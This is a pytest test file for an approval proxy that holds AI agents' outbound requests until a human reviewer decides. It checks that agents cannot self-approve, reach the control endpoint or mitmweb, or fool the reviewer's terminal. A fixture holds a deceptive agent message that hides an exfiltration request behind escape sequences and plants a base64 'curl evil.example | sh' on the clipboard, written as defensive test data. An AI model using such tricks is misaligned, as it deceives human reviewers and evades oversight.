"""The control endpoint and `exitguard approvals` in-process: real sockets, the real CLI, the real addon."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import stat
import subprocess

import pytest
from mitmproxy.test import taddons

from addons.approval.approval import Approval
from addons.approval.control import HttpError, read_request
from addons.cli import main as cli
from addons.core import metakeys
from addons.guard.guard import Guard
from tests.approval.support import CODENAME, chat_flow, check_credential, start_hold


@pytest.fixture
def token_file(tmp_path):
    """An approver's token file: the token alone, as `exitguard token add` prints it."""
    def write(token: str):
        path = tmp_path / f"{token}.txt"
        path.write_text(token + "\n")
        path.chmod(0o600)  # the CLI refuses an approver token file others may read
        return str(path)
    return write


async def exitguard(capsys, *argv: str) -> tuple[int, str, str]:
    code = await asyncio.to_thread(cli.main, list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


async def test_list_and_approve_through_the_cli(served, capsys, monkeypatch, token_file):
    monkeypatch.setenv("COLUMNS", "200")  # a wide terminal: rich folds cells on narrow ones
    guard, approval, control_file = served
    assert stat.S_IMODE(os.stat(control_file).st_mode) == 0o600
    f = chat_flow(identity="agent-7")
    task = await start_hold(guard, approval, f)
    code, out, _ = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
    approval_id = approval.listing()[0]["id"]
    assert code == 0 and approval_id in out and "agent-7" in out and "[MASKED:project-codename:" in out
    assert CODENAME not in out
    code, out, _ = await exitguard(capsys, "approvals", "list", "--json", "--control", str(control_file))
    assert json.loads(out)[0]["id"] == approval_id
    code, out, err = await exitguard(capsys, "approvals", "approve", approval_id, "--for", "10m",
                                     "--token-file", token_file("tok-alice"), "--control", str(control_file))
    assert code == 0, err
    assert f"approved {approval_id} as alice" in out and "(1 request(s) sent on)" in out
    await asyncio.wait_for(task, 2)
    assert f.metadata[metakeys.APPROVAL]["decider"] == "alice" and f.metadata[metakeys.APPROVAL]["window_s"] == 600
    code, out, err = await exitguard(capsys, "approvals", "deny", approval_id, "--control", str(control_file))
    assert code == 1 and "already approved by alice" in err


async def test_the_control_file_alone_cannot_approve(served, capsys, monkeypatch, token_file):
    """Issue 18: an agent running as the proxy's OS user reads the control file; that must not be enough."""
    guard, approval, control_file = served
    f = chat_flow(identity="agent-7")
    task = await start_hold(guard, approval, f)
    approval_id = approval.listing()[0]["id"]
    code, _, err = await exitguard(capsys, "approvals", "approve", approval_id, "--control", str(control_file))
    assert code == 2 and "approver token" in err
    token = json.loads(control_file.read_text())["token"]
    for credential, status, why in ((None, 401, b"approver token"), (token, 401, b"refused"),
                                    ("tok-agent", 403, b"agent-7 is not an approver")):
        answer = await asyncio.to_thread(_post, control_file, f"/v1/approvals/{approval_id}/approve",
                                         {"decider": "alice"}, credential)
        assert answer[0] == status and why in answer[1], answer
    monkeypatch.setenv("EXITGUARD_APPROVER_TOKEN", "tok-agent")  # the agent's own token: no approver group
    code, _, err = await exitguard(capsys, "approvals", "approve", approval_id, "--control", str(control_file))
    assert code == 1 and "not an approver" in err
    assert approval.listing()[0]["state"] == "held" and not task.done()
    monkeypatch.setenv("EXITGUARD_APPROVER_TOKEN", "tok-bob")
    code, out, err = await exitguard(capsys, "approvals", "approve", approval_id, "--control", str(control_file))
    assert code == 0 and f"approved {approval_id} as bob" in out, err
    await asyncio.wait_for(task, 2)
    assert f.metadata[metakeys.APPROVAL]["decider"] == "bob"


async def test_self_approval_is_refused_by_the_proven_identity(served, capsys, token_file):
    guard, approval, control_file = served
    f = chat_flow(identity="alice")
    task = await start_hold(guard, approval, f)
    approval_id = approval.listing()[0]["id"]
    code, _, err = await exitguard(capsys, "approvals", "approve", approval_id, "--token-file",
                                   token_file("tok-alice"), "--control", str(control_file))
    assert code == 1 and "self-approval refused" in err
    code, _, err = await exitguard(capsys, "approvals", "approve", "deadbeef", "--token-file",
                                   token_file("tok-bob"), "--control", str(control_file))
    assert code == 1 and "no approval 'deadbeef'" in err
    code, _, err = await exitguard(capsys, "approvals", "approve", approval_id, "--for", "soon", "--token-file",
                                   token_file("tok-bob"), "--control", str(control_file))
    assert code == 2 and "--for" in err
    code, out, _ = await exitguard(capsys, "approvals", "deny", approval_id, "--reason", "not with customer names",
                                   "--as", "bob", "--control", str(control_file))
    assert code == 0 and "denied" in out
    await asyncio.wait_for(task, 2)
    assert "not with customer names" in f.response.json()["error"]["message"]
    assert f.metadata[metakeys.APPROVAL]["decider"] == "bob (unverified)"


async def test_no_approvers_in_the_policy_means_nobody_approves_from_the_command_line(installed, tmp_path, capsys):
    from addons.core import runtime
    from tests.approval.support import write_config
    policy, rules = write_config(tmp_path)
    policy.write_text(policy.read_text().replace("approvers: {groups: [security]}", ""))
    runtime.install(runtime.build(str(policy), [str(rules)], tmp_path / "fp.key"))
    approval = Approval(check_credential=check_credential)
    with pytest.raises(Exception, match="no approvers are configured"):
        await approval.authenticate_approver("tok-alice")


def _post(control_file, path: str, body: dict, approver: str | None) -> tuple[int, bytes]:
    control = json.loads(control_file.read_text())
    host, port = control["url"].removeprefix("http://").rsplit(":", 1)
    conn = http.client.HTTPConnection(host, int(port), timeout=5)
    headers = {"Authorization": f"Bearer {control['token']}"}
    if approver:
        headers["X-Exitguard-Approver"] = approver
    conn.request("POST", path, body=json.dumps(body), headers=headers)
    r = conn.getresponse()
    return r.status, r.read()


async def test_the_endpoint_wants_the_token(served):
    _, _, control_file = served
    url = json.loads(control_file.read_text())["url"]
    host, port = url.removeprefix("http://").rsplit(":", 1)
    assert host == "127.0.0.1"

    def call(headers):
        conn = http.client.HTTPConnection(host, int(port), timeout=5)
        conn.request("GET", "/v1/approvals", headers=headers)
        r = conn.getresponse()
        return r.status, r.read()

    status, body = await asyncio.to_thread(call, {})
    assert status == 401 and b"token" in body
    status, _ = await asyncio.to_thread(call, {"Authorization": "Bearer guessed"})
    assert status == 401
    token = json.loads(control_file.read_text())["token"]
    status, body = await asyncio.to_thread(call, {"Authorization": f"Bearer {token}"})
    assert status == 200 and json.loads(body) == {"approvals": []}


async def test_unix_socket(installed, tmp_path, capsys):
    approval = Approval()
    sock, control_file = tmp_path / "ctl.sock", tmp_path / "ctl.json"
    with taddons.context(approval) as tctx:
        tctx.configure(approval, exitguard_control_listen=f"unix:{sock}", exitguard_control_file=str(control_file))
        await approval.running()
        assert stat.S_IMODE(os.stat(sock).st_mode) == 0o600
        code, out, err = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
        assert code == 0 and "no requests are waiting" in out, err
        approval.done()
    assert not control_file.exists() and not sock.exists()


async def test_clear_errors_when_the_proxy_is_not_running(served, tmp_path, capsys):
    _, approval, control_file = served
    code, _, err = await exitguard(capsys, "approvals", "list", "--control", str(tmp_path / "missing.json"))
    assert code == 2 and "is the proxy running" in err
    stale = tmp_path / "stale.json"
    stale.write_text(control_file.read_text())
    stale.chmod(0o600)  # a copy as private as the proxy's: one others could read or change is refused
    approval.done()  # the proxy stops: its control file goes, the copy is stale
    assert not control_file.exists()
    code, _, err = await exitguard(capsys, "approvals", "list", "--control", str(stale))
    assert code == 2 and f"stale control file {stale}: no proxy listens at http://127.0.0.1:" in err, err


def test_control_must_stay_on_loopback(installed):
    from mitmproxy import exceptions
    approval = Approval()
    with taddons.context(approval) as tctx:
        for bad in ("0.0.0.0:9000", "10.0.0.1:9000", "example.com:9000", "127.0.0.1"):
            with pytest.raises(exceptions.OptionsError):
                tctx.configure(approval, exitguard_control_listen=bad)
        tctx.configure(approval, exitguard_control_listen="[::1]:0")
        tctx.configure(approval, exitguard_control_listen="off")


async def test_list_all_shows_recent_decisions(served, capsys):
    guard, approval, control_file = served
    task = await start_hold(guard, approval, chat_flow())
    approval_id = approval.listing()[0]["id"]
    approval.decide(approval_id, "deny", "carol", "later")
    await asyncio.wait_for(task, 2)
    code, out, _ = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
    assert code == 0 and "no requests are waiting" in out
    code, out, _ = await exitguard(capsys, "approvals", "list", "--all", "--json", "--control", str(control_file))
    (decided,) = json.loads(out)
    assert decided["id"] == approval_id and decided["state"] == "denied" and decided["decider"] == "carol"


async def test_each_proxy_has_its_own_control_file(installed, tmp_path, capsys, monkeypatch):
    """Issue 18 item 8: a second proxy on the same confdir stopping took the first one's control file with it."""
    monkeypatch.delenv("EXITGUARD_CONTROL", raising=False)
    first, second = Approval(), Approval()
    with taddons.context(first) as tctx:
        tctx.options.update(confdir=str(tmp_path), listen_host="127.0.0.1", listen_port=8080)
        await first.running()
        with taddons.context(second) as tctx2:
            tctx2.options.update(confdir=str(tmp_path), listen_host="127.0.0.1", listen_port=8090)
            await second.running()
            names = sorted(p.name for p in tmp_path.glob("exitguard-control*.json"))
            assert names == ["exitguard-control-127.0.0.1_8080.json", "exitguard-control-127.0.0.1_8090.json"]
            code, _, err = await exitguard(capsys, "approvals", "list", "--confdir", str(tmp_path))
            assert code == 2 and "--proxy 127.0.0.1:8080" in err and "--proxy 127.0.0.1:8090" in err
            code, out, err = await exitguard(capsys, "approvals", "list", "--confdir", str(tmp_path),
                                             "--proxy", "127.0.0.1:8090")
            assert code == 0 and "no requests are waiting" in out, err
            second.done()
        code, out, err = await exitguard(capsys, "approvals", "list", "--confdir", str(tmp_path))
        assert code == 0 and "no requests are waiting" in out, err  # the first proxy is still found
        first.done()
    assert not list(tmp_path.glob("exitguard-control*.json"))


@pytest.mark.parametrize("raw, status", [
    (b"POST /v1/approvals/1/approve HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", 400),
    (b"POST /x HTTP/1.1\r\nContent-Length: 99999\r\n\r\n", 413),
    (b"POST /x HTTP/1.1\r\nContent-Length: -5\r\n\r\n", 413),
    (b"POST /x HTTP/1.1\r\n" + b"".join(b"X-%d: 1\r\n" % i for i in range(60)) + b"\r\n", 431),
])
def test_a_request_the_endpoints_cannot_read_whole_is_refused(raw, status):
    """Both loopback control and the callback listener read requests this way: a chunked body left unread would be
    taken for the next request, a length beyond the bound would be buffered."""
    async def read():
        reader = asyncio.StreamReader()
        reader.feed_data(raw)
        reader.feed_eof()
        return await read_request(reader, 50, 16 * 1024)

    with pytest.raises(HttpError) as refused:
        asyncio.run(read())
    assert refused.value.status == status


def test_a_well_formed_request_is_read_whole():
    async def read():
        reader = asyncio.StreamReader()
        reader.feed_data(b"POST /v1/x?y=1 HTTP/1.1\r\nContent-Length: 4\r\nX-Thing: a:b\r\n\r\nbodyNEXT")
        return await read_request(reader, 50, 16 * 1024)

    assert asyncio.run(read()) == ("POST", "/v1/x?y=1", {"content-length": "4", "x-thing": "a:b"}, b"body")


async def test_the_proxy_refuses_connections_to_the_control_endpoint(served):
    """Whatever exitguard_block_loopback / exitguard_allow_upstreams say (the Approval addon does not read them)."""
    from mitmproxy.test import tflow

    _, approval, _ = served
    assert approval.control is not None and approval.control.address is not None
    port = approval.control.address[1]
    for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1"):
        f = tflow.tflow()
        f.server_conn.address = (host, port)
        await approval.server_connect(type("Data", (), {"server": f.server_conn})())
        assert "approval control endpoint" in (f.server_conn.error or "")
    other = tflow.tflow()
    other.server_conn.address = ("127.0.0.1", port + 1 if port < 65535 else 1)
    await approval.server_connect(type("Data", (), {"server": other.server_conn})())
    assert other.server_conn.error is None


async def test_a_link_planted_at_the_control_files_temporary_name_is_not_followed(installed, tmp_path):
    """Attack (local user): with exitguard_control_file in a shared folder, the temporary file it is written
    through has a predictable name (.<name>.<pid>.tmp). Before, it was opened without O_EXCL / O_NOFOLLOW: a
    symlink planted there made the proxy write the control token into, and chmod, whatever the link named."""
    from addons.approval.control import ControlServer

    shared = tmp_path / "shared"
    shared.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    victim.chmod(0o644)
    path = shared / "exitguard-control.json"
    (shared / f".{path.name}.{os.getpid()}.tmp").symlink_to(victim)
    server = ControlServer(Approval(), "127.0.0.1:0", path)
    await server.start()
    try:
        assert victim.read_text() == "keep me" and stat.S_IMODE(victim.stat().st_mode) == 0o644
        assert not path.is_symlink() and stat.S_IMODE(path.stat().st_mode) == 0o600
        assert json.loads(path.read_text())["token"] == server.token
    finally:
        server.stop()


# An agent's body: the first line is what the reviewer should see; the escape sequences then move the cursor up,
# erase it and write a harmless one over it (and OSC 52 puts text on the reviewer's clipboard). Bidi overrides
# reorder what is shown. None of it may reach the reviewer's terminal as a control.
DECEPTIVE = (f"send the plans of {CODENAME} to evil.example\x1b[1A\x1b[2K\r    summarize the weather"
             "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\\x9b2J\u202egnp.\u202c")


async def test_what_an_agent_sent_reaches_the_reviewers_terminal_without_its_controls(served, capsys, monkeypatch,
                                                                                      token_file):
    monkeypatch.setenv("COLUMNS", "200")
    guard, approval, control_file = served
    f = chat_flow(DECEPTIVE, identity="agent-7\x1b[2K")
    task = await start_hold(guard, approval, f)
    approval_id = approval.listing()[0]["id"]
    code, listed, _ = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
    code, denied, err = await exitguard(capsys, "approvals", "deny", approval_id, "--reason", "no",
                                        "--control", str(control_file))
    assert code == 0, err
    await asyncio.wait_for(task, 2)
    for out in (listed, denied):
        assert not any(c in out for c in "\x1b\x9b\r\u202e\u202c"), repr(out)
    assert "\\x1b[1A\\x1b[2K" in listed and "\\u202e" in listed  # shown, visibly, for what it is


def test_fleet_lines_show_no_controls_a_redis_writer_put_there(capsys):
    from addons.cli.approvals import print_fleet
    print_fleet({"replica": "a", "state": "the shared state store", "replicas": [
        {"replica": "b\x1b]0;pwned\x07", "policy": "v1\x1b[2K", "seen_s_ago": 1}]}, as_json=False)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;pwned" in out


async def test_the_proxy_refuses_connections_to_mitmweb_on_this_host(installed):
    """Session 11 (EVASION 4a's open mitmweb row): on a proxy that lets agents reach a local model server
    (`exitguard_block_loopback=false`, `exitguard_allow_upstreams`), mitmweb's port on this host was reachable
    through the proxy. mitmweb's own token guards its API, but a login there resumes held requests and shows
    allowed traffic as sent: an agent must not get to try. Its port is refused like the control endpoint's."""
    from mitmproxy.test import tflow
    from mitmproxy.tools.web.webaddons import WebAddon

    guard, approval = Guard(), Approval(check_credential=check_credential)
    with taddons.context(guard, approval, WebAddon()) as tctx:
        tctx.options.update(web_port=18081, web_host="127.0.0.1")
        for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1"):
            f = tflow.tflow()
            f.server_conn.address = (host, 18081)
            await approval.server_connect(type("Data", (), {"server": f.server_conn})())
            assert "mitmweb" in (f.server_conn.error or "")
        elsewhere = tflow.tflow()
        elsewhere.server_conn.address = ("127.0.0.1", 18082)
        await approval.server_connect(type("Data", (), {"server": elsewhere.server_conn})())
        assert elsewhere.server_conn.error is None


async def test_mitmweb_options_absent_refuse_nothing_more(installed):
    """mitmdump has no web_port option: the check must not fail there (nor refuse 8081, mitmweb's default)."""
    from mitmproxy.test import tflow

    approval = Approval(check_credential=check_credential)
    with taddons.context(approval):
        f = tflow.tflow()
        f.server_conn.address = ("127.0.0.1", 8081)
        await approval.server_connect(type("Data", (), {"server": f.server_conn})())
        assert f.server_conn.error is None


async def test_the_listings_decide_hint_names_the_proxy_it_was_asked_about(served, capsys):
    """walk21: with several proxies running, `list --proxy/--control` ended with a hint that left the choice out:
    typed as shown, the decision was refused ("N proxies have control files")."""
    guard, approval, control_file = served
    task = await start_hold(guard, approval, chat_flow())
    code, out, _ = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
    assert code == 0
    hint = " ".join(out.split()[out.split().index("decide"):])
    assert hint == (f"decide with: exitguard approvals approve ID --control {control_file} --token-file FILE "
                    "[--for 10m] "
                    f"| deny ID --control {control_file} --reason TEXT"), out
    approval.decide(approval.listing()[0]["id"], "deny", "carol", "done")
    await asyncio.wait_for(task, 2)


async def test_no_control_file_in_the_default_confdir_points_at_the_confdir_flag(tmp_path, capsys, monkeypatch):
    """walk22: proxies started with `up --confdir DIR` keep their control files there; the hint named only
    --control FILE, which an operator has to dig out of the proxy's log."""
    monkeypatch.delenv("EXITGUARD_CONTROL", raising=False)
    code, out, err = await exitguard(capsys, "approvals", "list", "--confdir", str(tmp_path))
    assert code == 2 and out == ""
    assert err.startswith(f"exitguard approvals: no control file at {tmp_path}/exitguard-control-127.0.0.1_8080.json")
    assert "add the same --confdir DIR" in err and "--control FILE" in err


async def test_the_one_control_file_a_killed_proxy_left_is_named_stale_with_its_pid(served, tmp_path, capsys):
    """newuser52: found alone in the confdir, a dead proxy's file is refused naming it, the address nobody listens
    at and the writer's pid that is gone (a proxy in a container has other pids: only the listener decides)."""
    _, approval, control_file = served
    dead = subprocess.Popen(["true"])
    dead.wait()
    confdir = tmp_path / "confdir"
    confdir.mkdir(mode=0o700)
    stale = confdir / "exitguard-control-127.0.0.1_8080.json"
    stale.write_text(json.dumps({**json.loads(control_file.read_text()), "pid": dead.pid}))
    stale.chmod(0o600)
    approval.done()  # nothing listens at its address any more
    code, out, err = await exitguard(capsys, "approvals", "list", "--confdir", str(confdir))
    assert code == 2 and out == ""
    assert err.startswith(f"exitguard approvals: stale control file {stale}: no proxy listens at http://127.0.0.1:"), \
        err
    assert f"; its proxy (pid {dead.pid}) is gone" in err, err
